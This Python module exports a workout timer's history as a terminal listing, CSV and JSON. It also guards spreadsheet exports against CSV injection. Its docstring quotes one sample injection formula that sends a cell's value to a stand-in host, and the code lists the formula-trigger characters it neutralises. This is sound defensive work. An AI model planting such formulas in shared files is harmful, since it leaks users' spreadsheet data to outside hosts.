"""Workout records as rows and plain data, for `bandtimer history` and the history screen.

Pure: records in, strings and JSON-able values out, with no Textual, no Rich and no files. The
table the command prints and the screen's list share `listing_row`, so they always agree. The
exports are the files' text exactly; what is meant for the terminal shows control characters
as symbols (`formatting.visible_controls`), since a history file is data like any other.

**CSV** (`--format csv`): one row per set reached, the long format Strong and Hevy export, so a
spreadsheet's pivot table or a pandas `groupby` works on it straight away. Columns, in order:

    date          when the workout started, local time where it was done: `2025-03-18 07:30:00`
                  (Strong's layout, which spreadsheets read as a date; the UTC offset is in JSON)
    workout       the routine's name
    exercise      the exercise's name
    side          `R` or `L`; empty for an exercise done on both sides together (a letter, so
                  that it never reads like the feel `right`)
    set           1, 2, 3… within the exercise and side, counting on through the rounds
    round         1, 2, 3… the round of its block the set was in; 1 outside a block
    result        `done`, `cut short` (left early with something done) or `skipped`
    reps          reps done in that set; empty for a timed hold, a skipped set, or a count of a
                  time-boxed set that was not given (never a made-up 0)
    seconds       seconds held in that set, for a timed hold; empty otherwise
    held_seconds  for held reps, the seconds each rep was held, space-separated: `5.0 5.0 5.0`
    band          the band's colour as the person named it; empty if none was chosen
    feel          `easy`, `right` or `hard`; rated once per exercise, on each of its sets
    workout_id    the record's id, the same on every row of one workout: group by it
    status        `completed` (every set done), `partial` (followed to the end, some sets not
                  done), `stopped early` or `in progress`
    device        the device that recorded it

Numbers are plain (`12`, `20.0`), text is as written in the files, and the csv module does
the quoting. Every set reached is a row, done or not, and says which in `result`.

One exception to "as written": a spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`,
a tab or a carriage return as a formula, and a routine, exercise, band or device name is text
anyone who shares a routine file or a synced folder can choose (`=HYPERLINK("http://x/?"&A1)`).
So, as OWASP advises against CSV injection, such a text cell gets a leading `'`, which
spreadsheets show as the text itself. Only text columns: the numbers are written by bandtimer
and are never negative, and JSON keeps every text exactly.

**JSON** (`--format json`): a list of every record with everything it holds, segment timing
included. Keys are the ones the TOML files use, with `null` where a file leaves a key out, and
datetimes are ISO 8601 with their UTC offset. Each exercise has its `sets` (`set`, `round`,
`result`, `reps`, `seconds`, `held_seconds`), and each workout its `sets_not_done`: the sets
that were skipped or cut short, by exercise and side.

Both list workouts oldest first, the order of a training log.
"""

from __future__ import annotations

import csv
import io
import json
import sys
from collections.abc import Iterable, Iterator, Sequence
from datetime import datetime
from typing import Any, TextIO

from bandtimer.coach import formatting
from bandtimer.coach.formatting import clock_time, plural
from bandtimer.domain.history import ExerciseRecord, SetRecord, Workout, WorkoutRecord
from bandtimer.domain.records import SegmentRecord
from bandtimer.domain.routine import Side
from bandtimer.domain.streaks import Regularity, Totals
from bandtimer.domain.text import visible_controls
from bandtimer.storage.history.index import Rendering, fingerprint

CSV_COLUMNS = (
    "date",
    "workout",
    "exercise",
    "side",
    "set",
    "round",
    "result",
    "reps",
    "seconds",
    "held_seconds",
    "band",
    "feel",
    "workout_id",
    "status",
    "device",
)
LISTING_COLUMNS = ("date", "routine", "status", "sets", "active", "device")
"""The columns of `bandtimer history` and of the history screen's list of workouts."""


def chronological(records: Iterable[WorkoutRecord]) -> list[WorkoutRecord]:
    """Oldest first; workouts started at the same moment on two devices in a stable order."""
    return sorted(records, key=lambda record: (record.started, record.id))


# -- the listing and the figures ------------------------------------------------------------------

NO_WORKOUTS = "No workouts yet — finish one and it shows here."


def streak_line(regularity: Regularity) -> str:
    """`Streak: 3 weeks · this week 1 / 2`."""
    return (
        f"Streak: {plural(regularity.streak_weeks, 'week')}"
        f" · this week {regularity.this_week} / {regularity.weekly_target}"
    )


def totals_line(totals: Totals) -> str:
    """`12 workouts · 1:27:41 active · 112 sets`: completed workouts only, as streaks counts."""
    return (
        f"{plural(totals.workouts, 'workout')} · {clock_time(totals.active_seconds)} active"
        f" · {plural(totals.sets, 'set')}"
    )


def listing_row(record: Workout) -> tuple[str, str, str, str, str, str]:
    """One workout as the history lists it: `2025-03-18 07:30`, routine, status, sets, 24:10…

    For the terminal, so control characters in the file's text are shown, not obeyed."""
    return (
        _local(record.started).isoformat(" ", "minutes"),
        visible_controls(record.routine.name),
        record.status.value,
        str(record.sets_done),
        clock_time(record.active_seconds),
        visible_controls(record.device),
    )


def _local(moment: datetime) -> datetime:
    """The local time as written, without its offset: isoformat, unlike strftime("%Y"), keeps
    four digits for the year (year 1 is `0001`, not `1`)."""
    return moment.replace(tzinfo=None)


# -- CSV -----------------------------------------------------------------------------------------


def csv_rows(records: Iterable[WorkoutRecord]) -> Iterator[list[str]]:
    """The rows under the `CSV_COLUMNS` header: one per set reached, oldest workout first."""
    for record in chronological(records):
        date = _local(record.started).isoformat(" ", "seconds")
        workout = [text_cell(record.id), record.status.value, text_cell(record.device)]
        for entry in record.exercises:
            for done in entry.sets:
                yield [
                    date,
                    text_cell(record.routine.name),
                    text_cell(entry.name),
                    CSV_SIDES[entry.side],
                    str(done.number),
                    str(done.round),
                    done.outcome.value,
                    str(done.reps) if done.reps is not None else "",
                    _seconds(done.seconds) if done.seconds is not None else "",
                    " ".join(_seconds(held) for held in done.held_seconds),
                    text_cell(entry.band or ""),
                    entry.feel.value if entry.feel is not None else "",
                    *workout,
                ]


CSV_SIDES = {Side.RIGHT: "R", Side.LEFT: "L", None: ""}
"""A letter for the side, so that a row never has "right" in two columns (the feel says
`right` too)."""


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection")."""


def text_cell(text: str) -> str:
    """A text from a file as a CSV cell a spreadsheet shows and never runs."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(records: Iterable[WorkoutRecord], out: TextIO) -> None:
    """The header and every row, `\\n` line endings (spreadsheets and `csv` read either)."""
    writer = csv.writer(_UnixLineEnds(out), lineterminator="\r\n")
    writer.writerow(CSV_COLUMNS)
    writer.writerows(csv_rows(records))


class _UnixLineEnds:
    """Ends each row `\\n` instead of `\\r\\n`.

    The csv module quotes a cell holding a character of its line terminator; with a terminator
    of `\\n` alone, Python 3.11 wrote a carriage return in a name unquoted, and a reader then
    split the row there. So the writer ends rows `\\r\\n` (quoting both) and this turns each
    row's end, which it writes in one call, into `\\n`."""

    def __init__(self, out: TextIO) -> None:
        self._out = out

    def write(self, row: str) -> int:
        return self._out.write(row[:-2] + "\n" if row.endswith("\r\n") else row)


def csv_text(records: Iterable[WorkoutRecord]) -> str:
    out = io.StringIO()
    write_csv(records, out)
    return out.getvalue()


def _seconds(value: float) -> str:
    return f"{value:.1f}"


# -- JSON ----------------------------------------------------------------------------------------


def records_to_json(records: Iterable[WorkoutRecord]) -> list[dict[str, Any]]:
    """Every record as `json.dumps` takes it, oldest first."""
    return [record_to_json(record) for record in chronological(records)]


def record_to_json(record: WorkoutRecord) -> dict[str, Any]:
    routine = record.routine
    return {
        "id": record.id,
        "status": record.status.value,
        "started": record.started.isoformat(),
        "ended": record.ended.isoformat(),
        "device": record.device,
        "resume_at": record.resume_at,
        "routine": {
            "name": routine.name,
            "file": str(routine.file) if routine.file is not None else None,
            "sha256": routine.sha256,
            "counts_toward_streak": routine.counts_toward_streak,
        },
        "active_seconds": round(record.active_seconds, 1),
        "paused_seconds": round(record.paused_seconds, 1),
        "sets_done": record.sets_done,
        "exercises": [_exercise_json(entry) for entry in record.exercises],
        "sets_not_done": [
            {
                "exercise": entry.name,
                "side": entry.side.value if entry.side is not None else None,
                "set": done.number,
                "result": done.outcome.value,
            }
            for entry, done in record.sets_not_done
        ],
        "segments": [_segment_json(segment) for segment in record.segments],
    }


def _exercise_json(entry: ExerciseRecord) -> dict[str, Any]:
    return {
        "number": entry.number,
        "name": entry.name,
        "side": entry.side.value if entry.side is not None else None,
        "sets_planned": entry.sets_planned,
        "sets_done": entry.sets_done,
        "hold_seconds": entry.hold_seconds,
        "band": entry.band,
        "feel": entry.feel.value if entry.feel is not None else None,
        "sets": [_set_json(done) for done in entry.sets],
    }


def _set_json(done: SetRecord) -> dict[str, Any]:
    return {
        "set": done.number,
        "round": done.round,
        "result": done.outcome.value,
        "reps": done.reps,
        "seconds": done.seconds,
        "held_seconds": list(done.held_seconds),
    }


def _segment_json(segment: SegmentRecord) -> dict[str, Any]:
    return {
        "index": segment.segment_index,
        "kind": segment.kind.value,
        "exercise": segment.exercise_name,
        "set": segment.set_number,
        "side": segment.side.value if segment.side is not None else None,
        "planned_seconds": segment.planned_seconds,
        "actual_seconds": segment.actual_seconds,
        "paused_seconds": segment.paused_seconds,
        "started_after_seconds": segment.started_at,
        "reps": segment.reps_done,
        "skipped": segment.skipped,
    }


# -- kept in the history index --------------------------------------------------------------------
# An export of a long history is mostly the same records rendered again: the index keeps each
# record's rendering and the exports join them. Both joins are exactly `write_csv`'s and
# `json.dumps(records_to_json(...), indent=2)`'s output; a test compares them on the fixture.


def record_csv_rows(record: WorkoutRecord) -> str:
    """One workout's CSV rows, without the header: `csv_document` joins them."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(csv_rows([record]))
    return out.getvalue()


def csv_document(parts: Iterable[bytes]) -> bytes:
    """The header and every workout's rows (each in UTF-8, as the index keeps them), as
    `write_csv` writes them, in UTF-8."""
    return b"".join(csv_pieces(parts))


def csv_pieces(parts: Iterable[bytes]) -> Iterator[bytes]:
    """`csv_document` a piece at a time, to be written out as it comes."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(CSV_COLUMNS)
    yield out.getvalue().encode()
    yield from parts


def record_json_text(record: WorkoutRecord) -> str:
    """One workout as it stands in the JSON export's list, indented one level."""
    text = json.dumps(record_to_json(record), indent=2, ensure_ascii=False)
    return "  " + text.replace("\n", "\n  ")  # JSON escapes newlines inside strings


def json_document(parts: Sequence[bytes]) -> bytes:
    """The list of every workout (each in UTF-8, as the index keeps them), as
    `json.dumps(records_to_json(...), indent=2)` writes it, in UTF-8."""
    return b"".join(json_pieces(parts))


def json_pieces(parts: Sequence[bytes]) -> Iterator[bytes]:
    """`json_document` a piece at a time, to be written out as it comes: ten thousand
    workouts are 400 MB, which joined would be copied twice before the first byte is out."""
    if not parts:
        yield b"[]\n"
        return
    yield b"[\n"
    yield parts[0]
    for part in parts[1:]:
        yield b",\n"
        yield part
    yield b"\n]\n"


def _renderings_version() -> str:
    return fingerprint([sys.modules[__name__], formatting])


CSV_ROWS = Rendering("csv", _renderings_version(), record_csv_rows)
JSON_TEXT = Rendering("json", _renderings_version(), record_json_text)
